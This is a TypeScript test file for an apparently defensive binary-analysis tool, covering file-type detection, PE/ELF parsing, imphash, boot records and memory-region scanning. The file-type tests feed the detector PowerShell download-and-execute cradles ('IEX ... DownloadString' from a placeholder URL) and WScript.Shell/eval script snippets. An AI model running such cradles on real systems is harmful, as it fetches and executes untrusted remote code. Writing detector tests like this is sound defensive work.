import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { before, describe, it } from 'node:test';
import { z } from 'zod';
import { AnalysisResult } from '#contracts';
import { analyze } from './analyze.js';
import { analyzeBootRecord } from './boot-record.js';
import { Deadline, bufferSource, crc32, entropyOf, openFileSource } from './bytes.js';
import { analyzeElf } from './elf.js';
import { detectFileType } from './file-type.js';
import { GOLDEN_PE_IMPORTS, buildPe, buildVbr, buildZip, gccElf } from './golden.fixtures.js';
import { sfdiskImage } from '#test-support';
import { analyzeMemoryRegion } from './memory-region.js';
import { analyzePe, imphash } from './pe.js';

const type = async (b: Buffer) => detectFileType(bufferSource(b));

/** sfdisk's dump lines `start=…, size=…, type=…, uuid=…` as objects. */
function dumpPartitions(dump: string): Array<Record<string, string>> {
  return dump
    .split('\n')
    .filter((l) => l.includes(' : start='))
    .map((l) => {
      const fields: Record<string, string> = {};
      for (const kv of (l.split(' : ')[1] ?? '').split(',')) {
        const [key = '', value = ''] = kv.trim().split(/\s*=\s*/);
        fields[key] = value;
      }
      return fields;
    });
}

describe('file type', () => {
  it('recognises executables, archives, documents and scripts by their bytes', async () => {
    const cases: Array<[Buffer, string, string]> = [
      [buildPe(), 'pe', 'pe32+'],
      [Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]), 'unknown', 'mz'],
      [Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), 'elf', 'elf64'],
      [Buffer.from('cffaedfe0c000001000000000200000000', 'hex'), 'macho', 'macho64'],
      [Buffer.from('cefaedfe07000000030000000200000000', 'hex'), 'macho', 'macho32'],
      [Buffer.from('cafebabe000000020100000700000003', 'hex'), 'macho', 'macho-fat'],
      [Buffer.from('PK\x05\x06' + '\0'.repeat(18), 'latin1'), 'archive', 'zip'],
      [buildZip({ 'a.txt': 'hello' }), 'archive', 'zip'],
      [buildZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' }), 'office', 'ooxml'],

      [Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), 'archive', 'rar'],
      [Buffer.from('377abcaf271c0004', 'hex'), 'archive', '7z'],
      [Buffer.from('1f8b0800000000000003', 'hex'), 'archive', 'gzip'],
      [Buffer.from('BZh91AY&SY'), 'archive', 'bzip2'],
      [Buffer.from('fd377a585a000004', 'hex'), 'archive', 'xz'],
      [Buffer.concat([Buffer.from('MSCF'), Buffer.alloc(32)]), 'archive', 'cab'],
      [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj', 'latin1'), 'pdf', 'pdf'],
      [Buffer.from('d0cf11e0a1b11ae1000000000000', 'hex'), 'office', 'ole2'],
      [Buffer.from('#!/usr/bin/env python3\nprint(1)\n'), 'script', 'shebang'],
      [
        Buffer.from('$c = New-Object Net.WebClient\nIEX $c.DownloadString($env:URL)\n', 'utf16le'),
        'script',
        'powershell',
      ],
      [
        Buffer.from('var sh = new ActiveXObject("WScript.Shell");\nfunction run(x) { eval(x); }\n'),
        'script',
        'javascript',
      ],
      [
        Buffer.from('On Error Resume Next\nDim o\nSet o = CreateObject("WScript.Shell")\n'),
        'script',
        'vbscript',
      ],
      // Upper case and, in the second, UTF-8 beyond ASCII: the patterns' word pre-check must not miss them.
      [Buffer.from('@ECHO OFF\r\nSETLOCAL\r\nSET X=%1\r\nGOTO :END\r\nREM done\r\n'), 'script', 'batch'],
      [Buffer.from("' Überprüfung\nDIM o\nON ERROR RESUME NEXT\nEnd Sub\n"), 'script', 'vbscript'],
      [Buffer.from('just some notes\nabout nothing\n'), 'unknown', 'text'],
      [randomBytes(4096), 'unknown', 'unknown'],
    ];
    for (const [bytes, expectedType, format] of cases) {
      const found = await type(bytes);
      assert.equal(
        `${found.type}/${found.format}`,
        `${expectedType}/${format}`,
        bytes.subarray(0, 16).toString('hex'),
      );
    }
    const java = await type(Buffer.from('cafebabe00000034', 'hex'));
    assert.notEqual(java.type, 'macho', 'a Java class file is not a fat Mach-O');
    // A PowerShell script in UTF-16 big-endian with its BOM, as in little-endian.
    const ps = 'IEX (New-Object Net.WebClient).DownloadString("http://x/y")\nInvoke-Expression $a\n';
    const le = await type(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(ps, 'utf16le')]));
    const be = await type(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(ps, 'utf16le').swap16()]));
    assert.deepEqual([be.type, be.format], [le.type, le.format]);
    assert.equal(be.type, 'script');
    // Zip64 (zip -fz): the entries come from the Zip64 end record, not one local header.
    const docx = await type(
      asZip64(buildZip({ '[Content_Types].xml': '<T/>', 'word/document.xml': '<w/>' })),
    );
    assert.deepEqual([docx.type, docx.details?.application], ['office', 'word']);
    const zip64 = await type(asZip64(buildZip({ 'a.txt': 'a', 'b.sh': 'b', 'c.md': 'c' })));
    assert.deepEqual([zip64.type, zip64.details?.entries], ['archive', 3]);
    const shebang = await type(Buffer.from('#!/usr/bin/env python3\n'));
    assert.equal(shebang.details?.interpreter, 'python3');
  });
});

/**
 * `zip` rewritten as Zip64 writes it (`zip -fz`): sizes and offsets of the headers and the end record set to
 * 0xffffffff, the real ones in a Zip64 end record and its locator before the end record.
 */
function asZip64(zip: Buffer): Buffer {
  const copy = Buffer.from(zip);
  const end = copy.length - 22;
  const entries = copy.readUInt16LE(end + 10);
  const cdSize = copy.readUInt32LE(end + 12);
  const cdOffset = copy.readUInt32LE(end + 16);
  for (let p = cdOffset, i = 0; i < entries; i++) {
    copy.writeUInt32LE(0xffffffff, copy.readUInt32LE(p + 42) + 18);
    p += 46 + copy.readUInt16LE(p + 28);
  }
  const record = Buffer.alloc(56);
  record.writeUInt32LE(0x06064b50, 0);
  record.writeBigUInt64LE(44n, 4);
  record.writeUInt16LE(45, 12);
  record.writeUInt16LE(45, 14);
  record.writeBigUInt64LE(BigInt(entries), 24);
  record.writeBigUInt64LE(BigInt(entries), 32);
  record.writeBigUInt64LE(BigInt(cdSize), 40);
  record.writeBigUInt64LE(BigInt(cdOffset), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(end), 8);
  locator.writeUInt32LE(1, 16);
  const eocd = Buffer.from(copy.subarray(end));
  eocd.writeUInt16LE(0xffff, 8);
  eocd.writeUInt16LE(0xffff, 10);
  eocd.writeUInt32LE(0xffffffff, 12);
  eocd.writeUInt32LE(0xffffffff, 16);
  return Buffer.concat([copy.subarray(0, end), record, locator, eocd]);
}

describe('PE summary', () => {
  it('reads the headers, sections with entropy and W+X flag, imports and the pefile imphash', async () => {
    const pe = await analyzePe(bufferSource(buildPe()));
    assert.ok(pe);
    assert.equal(pe.format, 'pe32+');
    assert.equal(pe.machineName, 'amd64');
    assert.equal(pe.timestamp, '2020-07-04T04:05:20.000Z');
    assert.equal(pe.subsystemName, 'windows-cui');
    assert.equal(pe.entryPoint, '0x1000');
    assert.equal(pe.imageBase, '0x140000000');
    assert.deepEqual(
      pe.sections.map((s) => [s.name, s.virtualAddress, s.rawSize, s.entropy, s.writableExecutable]),
      [
        ['.text', '0x1000', 512, 7.9985, false],
        ['.rdata', '0x2000', 512, 1.4898, false],
        ['.data', '0x3000', 512, 0, true],
      ],
    );
    assert.equal(pe.importCount, 4);
    assert.deepEqual(pe.imports[1], { dll: 'USER32.dll', functions: ['ord17', 'MessageBoxA'] });
    // The value pefile 2023.2.7 (Debian python3-pefile) gives for this file; its entropies agree too.
    assert.equal(pe.imphash, '40993ed34c8819122a2bd778f09ab5f5');
    const expected = 'kernel32.loadlibrarya,kernel32.getprocaddress,user32.ord17,user32.messageboxa';
    assert.equal(pe.imphash, createHash('md5').update(expected).digest('hex'));
    assert.ok(pe.anomalies.some((a) => a.code === 'writable-executable-section'));
    assert.equal(pe.truncated, false);
  });

  it("reads imports where the loader maps them when a section's raw size is inflated over the next ones", async () => {
    const file = buildPe();
    // .text's SizeOfRawData (16 bytes into its section header) made to cover far more than the file.
    const text = file.indexOf('.text\0\0\0', 0, 'latin1');
    assert.ok(text > 0);
    file.writeUInt32LE(0x20000, text + 16);
    const pe = await analyzePe(bufferSource(file));
    assert.ok(pe);
    // Not the bytes of .text read as the import directory at .rdata's addresses: pefile's answer.
    assert.equal(pe.importCount, 4);
    assert.equal(pe.imphash, '40993ed34c8819122a2bd778f09ab5f5');
    assert.ok(pe.anomalies.some((a) => a.code === 'section-beyond-file'));
  });

  it('reads a PE whose header overlaps the DOS header (e_lfanew under 0x40), as Windows and pefile do', async () => {
    const file = buildPe();
    const lfanew = file.readUInt32LE(0x3c);
    const headers = Buffer.from(file.subarray(lfanew, lfanew + 0x180));
    const tiny = Buffer.from(file);
    tiny.fill(0, 2, 0x200);
    headers.copy(tiny, 0x10);
    // e_lfanew now lies in the optional header (BaseOfCode, which the loader does not use).
    tiny.writeUInt32LE(0x10, 0x3c);
    assert.equal((await detectFileType(bufferSource(tiny))).type, 'pe');
    const pe = await analyzePe(bufferSource(tiny));
    assert.equal(pe?.imphash, '40993ed34c8819122a2bd778f09ab5f5');
  });

  it('finds the section table past 64 KiB of optional header', async () => {
    const file = buildPe();
    const lfanew = file.readUInt32LE(0x3c);
    const optSize = file.readUInt16LE(lfanew + 4 + 16);
    const table = lfanew + 24 + optSize;
    const shift = 0x12000;
    const big = Buffer.alloc(shift + file.length);
    file.copy(big, 0, 0, table);
    big.writeUInt16LE(0xffe0, lfanew + 4 + 16);
    const moved = lfanew + 24 + 0xffe0;
    file.copy(big, moved, table, table + 3 * 40);
    for (let i = 0; i < 3; i++)
      big.writeUInt32LE(file.readUInt32LE(table + i * 40 + 20) + shift, moved + i * 40 + 20);
    file.copy(big, shift + 0x200, 0x200);
    const pe = await analyzePe(bufferSource(big));
    assert.deepEqual(
      pe?.sections.map((x) => [x.name, x.entropy]),
      [
        ['.text', 7.9985],
        ['.rdata', 1.4898],
        ['.data', 0],
      ],
    );
    assert.equal(pe?.imphash, '40993ed34c8819122a2bd778f09ab5f5');
  });

  it('normalises the DLL extension like pefile and has no imphash without imports', () => {
    const a = imphash([
      { dll: 'WS2_32.DLL', functions: ['ord1'] },
      { dll: 'x.ocx', functions: ['F'] },
    ]);
    assert.equal(a, createHash('md5').update('ws2_32.ord1,x.f').digest('hex'));
    assert.equal(imphash([]), null);
    assert.equal(GOLDEN_PE_IMPORTS.length, 2);
  });

  it('returns null for what is not PE and reports a truncated file', async () => {
    assert.equal(await analyzePe(bufferSource(Buffer.from('MZ'))), null);
    const cut = await analyzePe(bufferSource(buildPe().subarray(0, 0x1c0)));
    assert.ok(cut);
    assert.equal(cut.truncated, true);
  });
});

describe('ELF summary', () => {
  it('matches readelf on /bin/ls, read from the file without loading it whole', async () => {
    const source = await openFileSource('/bin/ls');
    try {
      const elf = await analyzeElf(source);
      assert.ok(elf);
      assert.equal(elf.class, 'elf64');
      assert.equal(elf.endianness, 'little');
      const header = execFileSync('readelf', ['-hlS', '-W', '/bin/ls'], { encoding: 'utf8' });
      const entry = /Entry point address:\s+(0x[0-9a-f]+)/.exec(header)?.[1];
      assert.equal(elf.entry, entry);
      assert.equal(elf.interpreter, /program interpreter: ([^\]]+)\]/.exec(header)?.[1]);
      assert.equal(elf.numberOfSections, Number(/Number of section headers:\s+(\d+)/.exec(header)?.[1]));
      const text = elf.sections.find((s) => s.name === '.text');
      assert.equal(text?.flags, 'AX');
      assert.ok(elf.segments.some((s) => s.type === 'LOAD' && s.flags === 'RE'));
    } finally {
      await (source as { close(): Promise<void> }).close();
    }
  });

  it('reads extended section numbering (e_shnum 0, e_shstrndx SHN_XINDEX) as readelf does', async () => {
    const ls = Buffer.from(await readFile('/bin/ls'));
    const plain = await analyzeElf(bufferSource(ls));
    assert.ok(plain !== null && ls[4] === 2, 'a 64-bit /bin/ls');
    const shoff = Number(ls.readBigUInt64LE(40));
    const shnum = ls.readUInt16LE(60);
    const shstrndx = ls.readUInt16LE(62);
    ls.writeUInt16LE(0, 60);
    ls.writeUInt16LE(0xffff, 62);
    // Section 0's sh_size and sh_link carry them.
    ls.writeBigUInt64LE(BigInt(shnum), shoff + 32);
    ls.writeUInt32LE(shstrndx, shoff + 40);
    const extended = await analyzeElf(bufferSource(ls));
    assert.equal(extended?.numberOfSections, shnum);
    assert.deepEqual(
      extended?.sections.map((x) => x.name),
      plain.sections.map((x) => x.name),
    );
  });

  it('summarises an executable compiled by gcc in the test', async () => {
    const bytes = await gccElf();
    const result = await analyze('file', bufferSource(bytes));
    assert.equal(result.fileType.type, 'elf');
    assert.ok(result.elf);
    assert.equal(result.elf.machineName, process.arch === 'arm64' ? 'aarch64' : 'x86_64');
    assert.ok(['exec', 'dyn'].includes(result.elf.type));
    assert.ok(result.elf.interpreter?.includes('ld-linux'));
    assert.ok(result.elf.sections.some((s) => s.name === '.text'));
    assert.equal(result.pe, undefined);
  });
});

describe('boot record', () => {
  let mbr: { head: Buffer; dump: string };
  let gpt: { head: Buffer; dump: string };
  before(async () => {
    mbr = await sfdiskImage('label: dos\n,16MiB,L,*\n,8MiB,S\n,,7\n', 512);
    gpt = await sfdiskImage('label: gpt\nsize=8MiB, type=U, name="Données Łódź"\ntype=L\n', 34 * 512);
  });

  it('reads the MBR partition table sfdisk wrote', async () => {
    const r = await analyzeBootRecord(bufferSource(mbr.head));
    assert.equal(r.signatureValid, true);
    assert.equal(r.scheme, 'mbr');
    assert.equal(r.protectiveMbr, false);
    assert.deepEqual(r.anomalies, []);
    const expected = dumpPartitions(mbr.dump);
    assert.equal(r.partitions.length, 3);
    r.partitions.forEach((p, i) => {
      assert.equal(p.lbaStart, Number(expected[i]?.start));
      assert.equal(p.sectors, Number(expected[i]?.size));
      assert.equal(p.type, `0x${expected[i]?.type}`);
    });
    assert.deepEqual(
      r.partitions.map((p) => [p.active, p.typeName]),
      [
        [true, 'Linux'],
        [false, 'Linux swap'],
        [false, 'NTFS/exFAT/HPFS'],
      ],
    );
  });

  it('reads the protective MBR, GPT header and entries sfdisk wrote, with valid CRCs', async () => {
    const r = await analyzeBootRecord(bufferSource(gpt.head), { sectorSize: 512, lba: 0 });
    assert.equal(r.scheme, 'gpt');
    assert.equal(r.protectiveMbr, true);
    assert.deepEqual(r.anomalies, []);
    assert.ok(r.gpt);
    assert.equal(r.gpt.revision, '1.0');
    assert.equal(r.gpt.headerCrcValid, true);
    assert.equal(r.gpt.partitionArrayCrcValid, true);
    assert.equal(r.gpt.diskGuid, /label-id: (\S+)/.exec(gpt.dump)?.[1]);
    assert.equal(r.gpt.partitionEntryLba, 2);
    assert.equal(r.gpt.partitionEntryCount, 128);
    assert.equal(r.gpt.firstUsableLba, Number(/first-lba: (\d+)/.exec(gpt.dump)?.[1]));
    const expected = dumpPartitions(gpt.dump);
    assert.deepEqual(
      r.gpt.partitions.map((p) => [p.firstLba, p.lastLba - p.firstLba + 1, p.typeGuid, p.uniqueGuid]),
      expected.map((e) => [Number(e.start), Number(e.size), e.type, e.uuid]),
    );
    assert.deepEqual(
      r.gpt.partitions.map((p) => p.typeName),
      ['EFI system', 'Linux filesystem'],
    );
    // The name as written, in UTF-16 (each character was cut to its low byte: 'Donn?es A?dz').
    assert.equal(r.gpt.partitions[0]?.name, 'Données Łódź');
  });

  it('reads a 4 KiB-sector GPT submitted as 512-byte sectors, and says 4096', async () => {
    const disk = Buffer.alloc(16 * 4096);
    // The same table sfdisk wrote for 512-byte sectors, moved to where a 4 KiB-sector disk keeps it.
    gpt.head.copy(disk, 0, 0, 512);
    gpt.head.copy(disk, 4096, 512, 1024);
    const header = disk.subarray(4096, 4096 + 92);
    header.writeBigUInt64LE(2n, 72);
    header.writeUInt32LE(0, 16);
    header.writeUInt32LE(crc32(header), 16);
    const r = await analyzeBootRecord(bufferSource(disk), { lba: 0 });
    assert.equal(r.scheme, 'gpt');
    assert.equal(r.sectorSize, 4096, 'the LBAs count 4 KiB sectors');
  });

  it('reports a bad signature, several active or overlapping partitions and a GPT CRC mismatch', async () => {
    const bad = Buffer.from(mbr.head);
    bad[446 + 16] = 0x80;
    bad.writeUInt32LE(2048 + 100, 446 + 16 + 8);
    bad[511] = 0;
    const r = await analyzeBootRecord(bufferSource(bad));
    const codes = r.anomalies.map((a) => a.code);
    for (const code of ['bad-signature', 'multiple-active', 'overlapping-partitions']) {
      assert.ok(codes.includes(code), `${code} in ${codes.join(',')}`);
    }
    const corrupt = Buffer.from(gpt.head);
    corrupt[512 + 60] = (corrupt[512 + 60] ?? 0) ^ 0xff;
    corrupt[1024 + 40] = (corrupt[1024 + 40] ?? 0) ^ 0xff;
    const g = await analyzeBootRecord(bufferSource(corrupt));
    assert.equal(g.gpt?.headerCrcValid, false);
    assert.equal(g.gpt?.partitionArrayCrcValid, false);
    const gcodes = g.anomalies.map((a) => a.code);
    assert.ok(gcodes.includes('gpt-header-crc-mismatch') && gcodes.includes('gpt-entries-crc-mismatch'));
    const alone = await analyzeBootRecord(
      bufferSource(Buffer.concat([gpt.head.subarray(0, 512), Buffer.alloc(512)])),
    );
    assert.ok(alone.anomalies.some((a) => a.code === 'protective-mbr-without-gpt'));
  });

  it('recognises NTFS and FAT32 volume boot records', async () => {
    const ntfs = await analyzeBootRecord(bufferSource(buildVbr('ntfs')));
    assert.equal(ntfs.scheme, 'vbr');
    assert.deepEqual(ntfs.vbr, {
      filesystem: 'ntfs',
      oemId: 'NTFS',
      jump: 'eb5290',
      jumpValid: true,
      bytesPerSector: 512,
    });
    assert.deepEqual(ntfs.partitions, []);
    assert.equal((await analyzeBootRecord(bufferSource(buildVbr('fat32')))).vbr?.filesystem, 'fat32');
  });
});

describe('memory region', () => {
  it('finds PE images at their offsets, flags RWX and measures entropy', async () => {
    const region = Buffer.alloc(0x10000);
    const pe = buildPe();
    pe.copy(region, 0x3000);
    // Decoys: MZ without a valid e_lfanew, and one whose e_lfanew leads nowhere.
    region.write('MZ', 0x100, 'latin1');
    region.write('MZ', 0x9000, 'latin1');
    region.writeUInt32LE(0x80, 0x9000 + 0x3c);
    const r = await analyzeMemoryRegion(bufferSource(region), { protection: 'RWX' });
    assert.equal(r.writableExecutable, true);
    assert.deepEqual(
      r.peImages.map((i) => [i.offset, i.pe.machineName, i.pe.imphash]),
      [[0x3000, 'amd64', '40993ed34c8819122a2bd778f09ab5f5']],
    );
    assert.equal(r.entropy, entropyOf(region));
    const rx = await analyze('memory-region', bufferSource(region), { protection: 'R-X' });
    assert.equal(rx.memoryRegion?.writableExecutable, false);
    assert.equal(rx.memoryRegion?.executable, true);
  });

  it('reads an image written as a file (an unpacked payload) in its file layout', async () => {
    const region = Buffer.concat([randomBytes(0x1000), buildPe(), randomBytes(0x8000)]);
    const r = await analyzeMemoryRegion(bufferSource(region), { protection: 'RWX' });
    assert.deepEqual(
      r.peImages.map((i) => [i.offset, i.pe.layout, i.pe.importCount, i.pe.imphash]),
      [[0x1000, 'file', 4, '40993ed34c8819122a2bd778f09ab5f5']],
    );
  });

  it('finds an image behind hundreds of MZ headers without a PE signature', async () => {
    const decoys = Buffer.alloc(300 * 64);
    for (let at = 0; at < decoys.length; at += 64) {
      decoys.write('MZ', at, 'latin1');
      decoys.writeUInt32LE(0x40, at + 0x3c);
    }
    const r = await analyzeMemoryRegion(bufferSource(Buffer.concat([decoys, buildPe()])), {});
    assert.deepEqual(
      r.peImages.map((i) => [i.offset, i.pe.imphash]),
      [[decoys.length, '40993ed34c8819122a2bd778f09ab5f5']],
    );
  });

  it('reads a loaded image at its virtual addresses', async () => {
    const file = buildPe();
    const mapped = Buffer.alloc(0x4000);
    file.copy(mapped, 0, 0, 0x200);
    for (const [va, raw] of [
      [0x1000, 0x200],
      [0x2000, 0x400],
      [0x3000, 0x600],
    ] as const) {
      file.copy(mapped, va, raw, raw + 0x200);
    }
    const r = await analyzeMemoryRegion(bufferSource(mapped), { protection: 'R--' });
    assert.equal(r.peImages[0]?.pe.layout, 'mapped');
    assert.equal(r.peImages[0]?.pe.imphash, '40993ed34c8819122a2bd778f09ab5f5');
    assert.equal(r.peImages[0]?.pe.sections[0]?.entropy, 7.9985);
  });
});

describe('analyze', () => {
  it('chooses analyzers by kind and detected type', async () => {
    const pe = await analyze('file', bufferSource(buildPe()));
    assert.equal(pe.fileType.type, 'pe');
    assert.equal(pe.pe?.imphash, '40993ed34c8819122a2bd778f09ab5f5');
    const boot = await analyze('boot-record', bufferSource(buildVbr('ntfs')), { sectorSize: 512, lba: 2048 });
    assert.equal(boot.bootRecord?.vbr?.filesystem, 'ntfs');
    assert.equal(boot.pe, undefined);
    const ls = await readFile('/bin/ls');
    const fragment = await analyze('file-fragment', bufferSource(ls.subarray(0, 4096)));
    assert.equal(fragment.elf?.class, 'elf64');
    assert.equal(fragment.errors, undefined);
    assert.doesNotThrow(() => JSON.stringify(fragment));
  });

  it("gives what the API's SampleView.analysis schema describes, exactly", async () => {
    const region = Buffer.concat([randomBytes(0x1000), buildPe(), randomBytes(0x8000)]);
    const { head: mbr } = await sfdiskImage('label: dos\n,16MiB,L,*\n,8MiB,S\n,,7\n', 512);
    const { head: gpt } = await sfdiskImage('label: gpt\nsize=8MiB, type=U\ntype=L\n', 34 * 512);
    const results = [
      await analyze('file', bufferSource(buildPe())),
      await analyze('file', bufferSource(buildPe()), {}, { timeoutMs: -1 }),
      await analyze('file', bufferSource(await readFile('/bin/ls'))),
      await analyze('file', bufferSource(buildZip({ 'word/document.xml': '<w/>' }))),
      await analyze('file', bufferSource(randomBytes(300))),
      await analyze('memory-region', bufferSource(region), { protection: 'RWX' }),
      await analyze('boot-record', bufferSource(buildVbr('ntfs')), { sectorSize: 512, lba: 2048 }),
      await analyze('boot-record', bufferSource(buildVbr('fat32')), { sectorSize: 512 }),
      await analyze('boot-record', bufferSource(mbr), { sectorSize: 512 }),
      await analyze('boot-record', bufferSource(gpt), { sectorSize: 512 }),
      await analyze('boot-record', bufferSource(randomBytes(200)), { sectorSize: 512 }),
    ];
    assert.ok(results.some((r) => r.pe !== undefined && r.pe.timestamp !== null));
    for (const result of results) {
      // Stored as JSON and served as such: what the schema gets is what a client gets.
      const parsed = AnalysisResult.safeParse(JSON.parse(JSON.stringify(result)));
      assert.ok(
        parsed.success,
        parsed.success ? '' : `${result.fileType.format}: ${z.prettifyError(parsed.error)}`,
      );
    }
  });
});

describe('hostile headers', () => {
  it('caps sections, GPT entries, ELF headers and images found, and says so', async () => {
    const pe = buildPe();
    pe.writeUInt16LE(0xffff, 0x80 + 4 + 2);
    const manySections = await analyzePe(bufferSource(pe));
    assert.ok(manySections && manySections.sections.length <= 96);
    assert.ok(manySections.anomalies.some((a) => a.code === 'too-many-sections'));

    const { head } = await sfdiskImage('label: gpt\n,8MiB,U\n,,L\n', 34 * 512);
    const gpt = Buffer.from(head);
    gpt.writeUInt32LE(0xffffffff, 512 + 80);
    gpt.fill(0x41, 1024);
    const many = await analyzeBootRecord(bufferSource(gpt));
    assert.ok(many.gpt && many.gpt.partitions.length <= 128);
    assert.equal(many.gpt.partitionArrayCrcValid, null);

    const elf = Buffer.from(await gccElf());
    elf.writeUInt16LE(0xffff, 60); // e_shnum
    elf.writeUInt16LE(0xffff, 56); // e_phnum
    const capped = await analyzeElf(bufferSource(elf));
    assert.ok(capped && capped.sections.length <= 256 && capped.segments.length <= 128);
    assert.ok(capped.anomalies.some((a) => a.code === 'too-many-sections'));

    const region = Buffer.alloc(40 * 0x800);
    for (let i = 0; i < 40; i++) buildPe().copy(region, i * 0x800);
    const images = await analyzeMemoryRegion(bufferSource(region), { protection: 'R--' });
    assert.equal(images.peImages.length, 32);
  });

  it('stops at the deadline and says the result is truncated', async () => {
    const region = Buffer.alloc(8 * 1024 * 1024);
    for (let i = 0; i < 32; i++) buildPe().copy(region, i * 0x40000);
    const started = performance.now();
    const r = await analyzeMemoryRegion(bufferSource(region), { deadline: new Deadline(-1) });
    assert.equal(r.truncated, true);
    assert.ok(performance.now() - started < 1000);
    const pe = await analyzePe(bufferSource(buildPe()), { deadline: new Deadline(-1) });
    assert.equal(pe?.truncated, true);
    // Sections the time limit left unread have no entropy (an entropy of 0 would say "one byte repeated").
    assert.deepEqual(
      pe?.sections.map((x) => [x.entropy, x.entropySampled]),
      [
        [null, true],
        [null, true],
        [null, true],
      ],
    );
  });
});
